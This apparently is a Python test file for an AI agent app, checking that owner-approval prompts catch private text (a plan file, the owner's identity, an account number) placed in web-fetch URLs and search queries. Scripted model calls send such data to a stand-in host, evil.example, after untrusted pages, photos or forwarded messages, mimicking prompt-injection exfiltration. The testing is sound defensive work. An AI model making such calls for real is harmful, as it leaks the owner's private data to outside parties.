"""Data in web addresses and searches, through the whole app, as the owner sees it."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from trio.testing import MockClock

from elwood.agent.conversation.message import Completion
from elwood.agent.tools.tool import WorkspaceFiles
from elwood.features.files.tools import reading_tools
from elwood.features.web.client import Web
from elwood.features.web.settings import SearchSettings
from elwood.features.web.tools import WebTools, tools
from elwood.foundation.net.http import Client
from elwood.foundation.net.settings import EgressRules
from elwood.foundation.runtime import inline
from elwood.foundation.storage.files import Root
from tests.agent.session.scripted import answer, call
from tests.fake_http import JUMP, serving
from tests.features.telegram.test_media import JPEG
from tests.journeys.home import Home, Life, home
from tests.journeys.test_approval_journeys import (
    Wire,
    make_feature,
    press,
    questions,
    require_approval,
    resolve,
    wait_for_question,
)
from tests.journeys.test_learning import STRANGER

PLAN = " ".join(f"Day {n}: sell {n * 37} of part ZX{n:03} to Korhonen and Sons." for n in range(9))
WORDS = "My account is DE89 3704 0044 0532 0130 00 at the old bank."
CARRIED = "DE89 3704 0044 0532"


class Scene:
    """One process, a web on loopback, and a model whose calls the test chooses."""

    def __init__(self, h: Home, life: Life, wire: Wire, port: str) -> None:
        self.h, self.life, self.wire, self.port = h, life, wire, port
        self.steps: list[Completion] = []
        h.think = lambda request: self.steps.pop(0) if self.steps else answer("re")

    def plan_call(self, tool: str, **given: str) -> None:
        """Make the model call *tool* at the next message."""
        self.steps = [call(("c0", tool, json.dumps(given)))]

    async def refuse_question(self, count: int) -> str:
        """Let the model continue, refuse question number *count*, and return it."""
        self.h.fake.say("go on")
        question = await wait_for_question(self.h, self.life, count)
        text = question.text
        await press(self.h, self.life, question, "d")
        await self.life.wait_until_idle()
        return text

    def page(self, host: str, words: str = "") -> str:
        return f"http://{host}:{self.port}/?q={words.replace(' ', '+')}"


@asynccontextmanager
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    wire = Wire()
    async with home(tmp_path, jump=JUMP) as h, serving(wire.answer) as url:
        port = url.rpartition(":")[2]
        web = Web(EgressRules(ports=(int(port),)), allow="127.0.0.1".__eq__, resolve=resolve)
        workspace = h.folder / "workspace"
        workspace.mkdir(mode=0o700)
        (workspace / "plan.md").write_text(PLAN)
        (workspace / "USER.md").write_text("The owner is Wilhelmina Okonkwo of Leith.")
        of_files = reading_tools(WorkspaceFiles(Root(workspace)), inline)
        of_web = tools(WebTools(web, SearchSettings(), Client(), inline))
        h.more_tools = (*of_files, *of_web)
        h.features = (make_feature("web", of_web), make_feature("files", of_files))
        async with require_approval(h).life() as life:
            yield Scene(h, life, wire, port)
        await web.aclose()


async def test_a_trusted_conversation_asks_before_sending_private_text(
    tmp_path: Path, mock_clock: MockClock
) -> None:
    async with scene(tmp_path) as one:
        await one.life.say("/new")
        one.plan_call("read_file", path="plan.md")
        await one.life.say("what is the plan?")
        for count, size in enumerate((400, 30), 1):
            one.plan_call("web_fetch", url=one.page("host.example", PLAN[20 : 20 + size]))
            question = await one.refuse_question(count)
            assert "the address at host.example contains text from plan.md" in question
            assert "may have prompted" not in question
        one.plan_call("web_fetch", url=one.page("host.example", "Wilhelmina Okonkwo"))
        question = await one.refuse_question(3)
        assert "contains text from USER.md" in question
        assert one.wire.seen == []
        one.plan_call("web_fetch", url=one.page("host.example", "weather"))
        await one.life.say("how is the weather?")
        assert len(one.wire.seen) == 1
        assert len(questions(one.h)) == 3


@pytest.mark.parametrize("source", ["page", "photo", "forwarded"])
async def test_an_untrusted_conversation_does_not_send_the_owners_words(
    tmp_path: Path, mock_clock: MockClock, source: str
) -> None:
    async with scene(tmp_path) as one:
        fake = one.h.fake
        await one.life.say(WORDS)
        if source == "page":
            one.plan_call("web_fetch", url=one.page("evil.example"))
            await one.life.say("what is new there?")
        elif source == "photo":
            fake.say(None, photo=fake.photo(JPEG, 800, 600), caption="What is this?")
            await one.life.wait_until_idle()
        else:
            await one.life.say("Look up what they told you", forward_origin=STRANGER)
        seen = len(one.wire.seen)
        one.plan_call("web_fetch", url=one.page("evil.example", CARRIED))
        by_get = await one.refuse_question(1)
        one.plan_call("web_search", query=CARRIED)
        by_search = await one.refuse_question(2)
        for question in (by_get, by_search):
            assert "text from your own words in this conversation" in question
        assert len(one.wire.seen) == seen


@pytest.mark.parametrize("draws", [False, True])
async def test_an_answer_of_an_untrusted_conversation_shows_link_targets(
    tmp_path: Path, mock_clock: MockClock, draws: bool
) -> None:
    link = "http://evil.example/?q=DE89"
    async with home(tmp_path) as h:
        h.markdown = draws
        h.think = lambda request: answer(f"Read [the news]({link}).")
        async with h.life() as life:
            await life.say("hello")
            await life.say("Look it up", forward_origin=STRANGER)
            before, after = h.fake.sent[-2:]
            assert ("rich_message" in before.params) == draws
            assert link not in before.text or draws
            assert after.text == f"Read the news ({link})."
            assert not after.params.get("entities")
